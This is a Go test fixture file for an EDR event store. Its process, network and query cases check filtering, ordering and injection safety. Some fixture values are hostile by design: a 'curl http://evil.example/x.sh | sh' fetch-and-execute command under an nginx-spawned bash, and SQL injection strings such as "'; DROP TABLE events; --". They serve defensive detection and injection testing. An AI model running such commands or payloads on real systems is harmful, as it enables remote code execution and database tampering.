package storetest

import (
	"fmt"
	"time"

	"github.com/mamori-edr/mamori/internal/schema"
	"github.com/mamori-edr/mamori/internal/store"
)

// Fixture returns the suite's events: host h1 (seq 1..12, an nginx ->
// bash -> curl tree, LIKE metacharacters, SQL in values, a loss event) and
// host h2 (seq 1..4). Event hX/N happens at Base + N seconds.
func Fixture() []schema.Event {
	x, f, e, s := schema.ProcessExec, schema.ProcessFork, schema.ProcessExit, schema.ProcessSnapshot
	evs := []schema.Event{
		Proc("h1", 1, s, 1, 0, "/sbin/init", "/sbin/init"),
		Proc("h1", 2, x, 100, 1, "/usr/sbin/nginx", "nginx", "-g", "daemon off;"),
		Proc("h1", 3, x, 150, 1, "/usr/bin/python3", "python3", `100%_done\path`),
		Proc("h1", 4, x, 160, 1, "/usr/bin/Bash", "Bash", "-c", "CURL"),
		Proc("h1", 5, f, 200, 100, "/usr/sbin/nginx"),
		Proc("h1", 6, x, 200, 100, "/bin/bash", "bash", "-c", "curl http://evil.example/x.sh | sh"),
		Proc("h1", 7, x, 300, 200, "/usr/bin/curl", "curl", "http://evil.example/x.sh"),
		{Schema: schema.Version, HostID: "h1", BootID: "boot", Seq: 8, Time: Base.Add(8 * time.Second),
			Type: schema.AgentLoss, Loss: &schema.Loss{SpoolDropped: 3, RingDropped: map[string]uint64{"exec": 2}}},
		Proc("h1", 9, e, 200, 100, "/bin/bash"),
		Proc("h1", 10, e, 300, 200, "/usr/bin/curl"),
		Proc("h1", 11, x, 400, 100, "/usr/bin/id", "id"),
		Proc("h1", 12, x, 500, 1, "/usr/bin/a_b", "a_b", `it's "quoted" '; DROP TABLE events; --`),
		Proc("h2", 1, s, 1001, 0, "/sbin/init", "/sbin/init"),
		Proc("h2", 2, x, 1100, 1001, "/usr/sbin/sshd", "sshd", "-D"),
		Proc("h2", 3, x, 1200, 1100, "/bin/bash", "bash"),
		Proc("h2", 4, e, 1200, 1100, "/bin/bash"),
	}
	parentExe := map[uint32]string{1: "/sbin/init", 100: "/usr/sbin/nginx", 200: "/bin/bash", 1001: "/sbin/init", 1100: "/usr/sbin/sshd"}
	for i := range evs {
		if p := evs[i].Process; p != nil {
			if p.PID == 400 {
				p.UID, p.EUID = 0, 0
			}
			if p.PPID == 0 {
				evs[i].Parent = nil
				p.ParentEntityID = ""
				continue
			}
			evs[i].Parent.Exe = parentExe[p.PPID]
		}
	}
	// Storage order: time, then seq, then host.
	SortForTest(evs)
	return evs
}

// SortForTest orders events by time, seq and host, as Query returns them.
func SortForTest(evs []schema.Event) {
	for i := 1; i < len(evs); i++ {
		for j := i; j > 0 && less(evs[j], evs[j-1]); j-- {
			evs[j], evs[j-1] = evs[j-1], evs[j]
		}
	}
}

func less(a, b schema.Event) bool {
	if !a.Time.Equal(b.Time) {
		return a.Time.Before(b.Time)
	}
	if a.Seq != b.Seq {
		return a.Seq < b.Seq
	}
	return a.HostID < b.HostID
}

// QueryCase is one query of the suite with its expected "host/seq" keys
// or error.
type QueryCase struct {
	Name  string
	Query store.EventQuery
	Want  []string
	Err   error
}

func cond(field string, op store.Op, v string) store.Condition {
	return store.Condition{Field: field, Op: op, Value: v}
}

func conds(c ...store.Condition) store.EventQuery { return store.EventQuery{Conditions: c} }

// QueryCases returns the suite's queries over Fixture (Tenant is set by the
// suite).
func QueryCases() []QueryCase {
	all := []string{"h1/1", "h2/1", "h1/2", "h2/2", "h1/3", "h2/3", "h1/4", "h2/4", "h1/5", "h1/6", "h1/7", "h1/8", "h1/9", "h1/10", "h1/11", "h1/12"}
	at := func(sec int) time.Time { return Base.Add(time.Duration(sec) * time.Second) }
	bad := store.ErrBadQuery
	manyHosts := []string{"h2"}
	for i := 0; i < 9000; i++ {
		manyHosts = append(manyHosts, fmt.Sprintf("x%d", i))
	}
	return []QueryCase{
		{Name: "all in time order", Want: all},
		{Name: "many hosts", Query: store.EventQuery{HostIDs: manyHosts}, Want: []string{"h2/1", "h2/2", "h2/3", "h2/4"}},
		{Name: "too many hosts", Query: store.EventQuery{HostIDs: append(manyHosts, manyHosts...)}, Err: store.ErrBadQuery},
		{Name: "limit", Query: store.EventQuery{Limit: 2}, Want: []string{"h1/1", "h2/1"}},
		{Name: "desc limit", Query: store.EventQuery{Limit: 3, Desc: true}, Want: []string{"h1/12", "h1/11", "h1/10"}},
		{Name: "desc ties newest seq first", Query: store.EventQuery{From: at(3), To: at(5), Desc: true}, Want: []string{"h2/4", "h1/4", "h2/3", "h1/3"}},
		{Name: "time range to exclusive", Query: store.EventQuery{From: at(3), To: at(4)}, Want: []string{"h1/3", "h2/3"}},
		{Name: "from only", Query: store.EventQuery{From: at(11)}, Want: []string{"h1/11", "h1/12"}},
		{Name: "to only", Query: store.EventQuery{To: at(2)}, Want: []string{"h1/1", "h2/1"}},
		{Name: "empty range", Query: store.EventQuery{From: at(5), To: at(5)}, Want: nil},
		{Name: "host", Query: store.EventQuery{HostIDs: []string{"h2"}}, Want: []string{"h2/1", "h2/2", "h2/3", "h2/4"}},
		{Name: "unknown host", Query: store.EventQuery{HostIDs: []string{"h3"}}, Want: nil},
		{Name: "hosts and type", Query: store.EventQuery{HostIDs: []string{"h1", "h2"}, Types: []schema.EventType{schema.ProcessExit}}, Want: []string{"h2/4", "h1/9", "h1/10"}},
		{Name: "types", Query: store.EventQuery{Types: []schema.EventType{schema.AgentLoss, schema.ProcessFork}}, Want: []string{"h1/5", "h1/8"}},
		{Name: "host time type", Query: store.EventQuery{HostIDs: []string{"h1"}, From: at(2), To: at(8), Types: []schema.EventType{schema.ProcessExec}}, Want: []string{"h1/2", "h1/3", "h1/4", "h1/6", "h1/7"}},
		{Name: "name eq", Query: conds(cond("process.name", store.OpEq, "bash")), Want: []string{"h2/3", "h2/4", "h1/6", "h1/9"}},
		{Name: "eq is case sensitive", Query: conds(cond("process.name", store.OpEq, "Bash")), Want: []string{"h1/4"}},
		{Name: "ne includes events without the field", Query: conds(cond("process.name", store.OpNe, "bash")),
			Want: []string{"h1/1", "h2/1", "h1/2", "h2/2", "h1/3", "h1/4", "h1/5", "h1/7", "h1/8", "h1/10", "h1/11", "h1/12"}},
		{Name: "args contains", Query: conds(cond("process.args", store.OpContains, "curl")), Want: []string{"h1/6", "h1/7"}},
		{Name: "args contains spans args", Query: conds(cond("process.args", store.OpContains, "-g daemon")), Want: []string{"h1/2"}},
		{Name: "contains percent literal", Query: conds(cond("process.args", store.OpContains, "%")), Want: []string{"h1/3"}},
		{Name: "contains underscore literal", Query: conds(cond("process.args", store.OpContains, "_")), Want: []string{"h1/3", "h1/12"}},
		{Name: "contains backslash literal", Query: conds(cond("process.args", store.OpContains, `\p`)), Want: []string{"h1/3"}},
		{Name: "contains all metachars", Query: conds(cond("process.args", store.OpContains, `0%_done\path`)), Want: []string{"h1/3"}},
		{Name: "contains sql", Query: conds(cond("process.args", store.OpContains, `'; DROP TABLE events; --`)), Want: []string{"h1/12"}},
		{Name: "contains quotes", Query: conds(cond("process.args", store.OpContains, `it's "quoted"`)), Want: []string{"h1/12"}},
		{Name: "eq sql injection", Query: conds(cond("process.name", store.OpEq, `' OR '1'='1`)), Want: nil},
		{Name: "prefix", Query: conds(cond("process.exe", store.OpPrefix, "/usr/bin/")), Want: []string{"h1/3", "h1/4", "h1/7", "h1/10", "h1/11", "h1/12"}},
		{Name: "prefix underscore literal", Query: conds(cond("process.exe", store.OpPrefix, "/usr/bin/_")), Want: nil},
		{Name: "prefix percent literal", Query: conds(cond("process.exe", store.OpPrefix, "%")), Want: nil},
		{Name: "suffix", Query: conds(cond("process.exe", store.OpSuffix, "_b")), Want: []string{"h1/12"}},
		{Name: "suffix percent literal", Query: conds(cond("process.exe", store.OpSuffix, "%")), Want: nil},
		{Name: "string lt", Query: conds(cond("process.name", store.OpLt, "b")), Want: []string{"h1/4", "h1/12"}},
		{Name: "string gt", Query: conds(cond("process.name", store.OpGt, "python3")), Want: []string{"h2/2"}},
		{Name: "parent child pair", Query: conds(cond("parent.exe", store.OpSuffix, "/nginx"), cond("process.name", store.OpEq, "bash")), Want: []string{"h1/6", "h1/9"}},
		{Name: "pid eq", Query: conds(cond("process.pid", store.OpEq, "200")), Want: []string{"h1/5", "h1/6", "h1/9"}},
		{Name: "pid gt", Query: conds(cond("process.pid", store.OpGt, "1000")), Want: []string{"h2/1", "h2/2", "h2/3", "h2/4"}},
		{Name: "ppid eq", Query: conds(cond("process.ppid", store.OpEq, "200")), Want: []string{"h1/7", "h1/10"}},
		{Name: "uid lt", Query: conds(cond("process.uid", store.OpLt, "1")), Want: []string{"h1/11"}},
		{Name: "euid eq", Query: conds(cond("process.euid", store.OpEq, "0")), Want: []string{"h1/11"}},
		{Name: "int ne", Query: conds(cond("process.uid", store.OpNe, "1000")), Want: []string{"h1/8", "h1/11"}},
		{Name: "login uid unset", Query: store.EventQuery{HostIDs: []string{"h2"}, Conditions: []store.Condition{cond("process.login_uid", store.OpEq, "4294967295")}}, Want: []string{"h2/1", "h2/2", "h2/3", "h2/4"}},
		{Name: "exit code eq", Query: conds(cond("process.exit_code", store.OpEq, "4")), Want: []string{"h1/9"}},
		{Name: "exit code gt", Query: conds(cond("process.exit_code", store.OpGt, "3")), Want: []string{"h1/9", "h1/10"}},
		{Name: "negative int", Query: conds(cond("process.exit_code", store.OpGt, "-1")), Want: []string{"h2/4", "h1/9", "h1/10"}},
		{Name: "seq gt", Query: conds(cond("seq", store.OpGt, "10")), Want: []string{"h1/11", "h1/12"}},
		{Name: "host_id condition", Query: conds(cond("host_id", store.OpEq, "h2"), cond("type", store.OpEq, string(schema.ProcessExit))), Want: []string{"h2/4"}},
		{Name: "boot id", Query: conds(cond("boot_id", store.OpNe, "boot")), Want: nil},
		{Name: "entity id", Query: conds(cond("process.entity_id", store.OpEq, EntityID(300))), Want: []string{"h1/7", "h1/10"}},
		{Name: "parent entity id", Query: conds(cond("process.parent_entity_id", store.OpEq, EntityID(1100))), Want: []string{"h2/3", "h2/4"}},
		{Name: "cwd", Query: store.EventQuery{Limit: 1, Conditions: []store.Condition{cond("process.cwd", store.OpEq, "/root")}}, Want: []string{"h1/1"}},
		{Name: "sha256", Query: conds(cond("process.hash.sha256", store.OpEq, fmt.Sprintf("%064x", 300))), Want: []string{"h1/7", "h1/10"}},
		{Name: "md5 suffix", Query: conds(cond("process.hash.md5", store.OpSuffix, fmt.Sprintf("%x", 1100))), Want: []string{"h2/2"}},
		{Name: "container id empty", Query: store.EventQuery{HostIDs: []string{"h2"}, Conditions: []store.Condition{cond("process.container_id", store.OpEq, "")}}, Want: []string{"h2/1", "h2/2", "h2/3", "h2/4"}},
		{Name: "conditions and limit desc", Query: store.EventQuery{Limit: 1, Desc: true, Conditions: []store.Condition{cond("process.name", store.OpEq, "bash")}}, Want: []string{"h1/9"}},

		{Name: "unknown field", Query: conds(cond("process.nope", store.OpEq, "x")), Err: bad},
		{Name: "field with sql", Query: conds(cond("exe; DROP TABLE events", store.OpEq, "x")), Err: bad},
		{Name: "raw column name", Query: conds(cond("exe", store.OpEq, "x")), Err: bad},
		{Name: "int not a number", Query: conds(cond("process.pid", store.OpEq, "1 OR 1=1")), Err: bad},
		{Name: "int contains", Query: conds(cond("process.pid", store.OpContains, "1")), Err: bad},
		{Name: "int overflow", Query: conds(cond("process.pid", store.OpEq, "99999999999999999999")), Err: bad},
		{Name: "unknown op", Query: conds(cond("process.name", "regex", ".*")), Err: bad},
		{Name: "negative limit", Query: store.EventQuery{Limit: -1}, Err: bad},
		{Name: "NUL in value", Query: conds(cond("process.args", store.OpContains, "\x00")), Err: bad},
	}
}

// NetFixture returns network events of host n1: a connect to 8080 from curl
// (pid 300) over IPv4, a failed IPv6 connect to 8080, an accept and a listen
// on 8080 by pid 100, a summary of 41 connects to 443, and a process event
// (seq 6) without a network part.
func NetFixture() []schema.Event {
	c, a, l := schema.NetworkConnect, schema.NetworkAccept, schema.NetworkListen
	net := func(seq uint64, typ schema.EventType, pid, ppid uint32, n schema.Network) schema.Event {
		ev := Proc("n1", seq, typ, pid, ppid, "/usr/bin/x")
		ev.Network = &n
		return ev
	}
	return []schema.Event{
		net(1, l, 100, 1, schema.Network{Family: "ipv4", Protocol: "tcp", Direction: "listen", DstIP: "0.0.0.0", DstPort: 8080, Count: 1}),
		net(2, c, 300, 200, schema.Network{Family: "ipv4", Protocol: "tcp", Direction: "outbound", Result: "established",
			SrcIP: "127.0.0.1", SrcPort: 40000, DstIP: "127.0.0.1", DstPort: 8080, Count: 1}),
		net(3, a, 100, 1, schema.Network{Family: "ipv4", Protocol: "tcp", Direction: "inbound",
			SrcIP: "127.0.0.1", SrcPort: 40000, DstIP: "127.0.0.1", DstPort: 8080, Count: 1}),
		net(4, c, 300, 200, schema.Network{Family: "ipv6", Protocol: "tcp", Direction: "outbound", Result: "failed",
			SrcIP: "::1", SrcPort: 40001, DstIP: "::1", DstPort: 8080, Count: 1}),
		net(5, c, 300, 200, schema.Network{Family: "ipv4", Protocol: "tcp", Direction: "outbound", Result: "established",
			DstIP: "192.0.2.7", DstPort: 443, Count: 41, Summary: true, FirstTime: "2026-01-01T00:00:00Z"}),
		Proc("n1", 6, schema.ProcessExec, 300, 200, "/usr/bin/curl", "curl", "8080"),
	}
}

// NetQueryCases returns queries over NetFixture.
func NetQueryCases() []QueryCase {
	c := schema.NetworkConnect
	return []QueryCase{
		{Name: "dst port", Query: conds(cond("network.dst_port", store.OpEq, "8080")), Want: []string{"n1/1", "n1/2", "n1/3", "n1/4"}},
		{Name: "connects to dst port", Query: store.EventQuery{Types: []schema.EventType{c},
			Conditions: []store.Condition{cond("network.dst_port", store.OpEq, "8080")}}, Want: []string{"n1/2", "n1/4"}},
		{Name: "failed", Query: conds(cond("network.result", store.OpEq, "failed")), Want: []string{"n1/4"}},
		{Name: "family ipv6", Query: conds(cond("network.family", store.OpEq, "ipv6")), Want: []string{"n1/4"}},
		{Name: "dst ip", Query: conds(cond("network.dst_ip", store.OpEq, "192.0.2.7")), Want: []string{"n1/5"}},
		{Name: "dst ip prefix", Query: conds(cond("network.dst_ip", store.OpPrefix, "127.")), Want: []string{"n1/2", "n1/3"}},
		{Name: "src port gt", Query: conds(cond("network.src_port", store.OpGt, "40000")), Want: []string{"n1/4"}},
		{Name: "inbound by pid", Query: conds(cond("network.direction", store.OpEq, "inbound"), cond("process.pid", store.OpEq, "100")), Want: []string{"n1/3"}},
		{Name: "protocol", Query: conds(cond("network.protocol", store.OpEq, "tcp")), Want: []string{"n1/1", "n1/2", "n1/3", "n1/4", "n1/5"}},
		{Name: "ne includes non-network", Query: conds(cond("network.dst_port", store.OpNe, "8080")), Want: []string{"n1/5", "n1/6"}},
		{Name: "port not a number", Query: conds(cond("network.dst_port", store.OpEq, "http")), Err: store.ErrBadQuery},
		{Name: "port contains", Query: conds(cond("network.dst_port", store.OpContains, "80")), Err: store.ErrBadQuery},
		{Name: "sql in value", Query: conds(cond("network.dst_ip", store.OpEq, "'; DROP TABLE events; --")), Want: nil},
	}
}
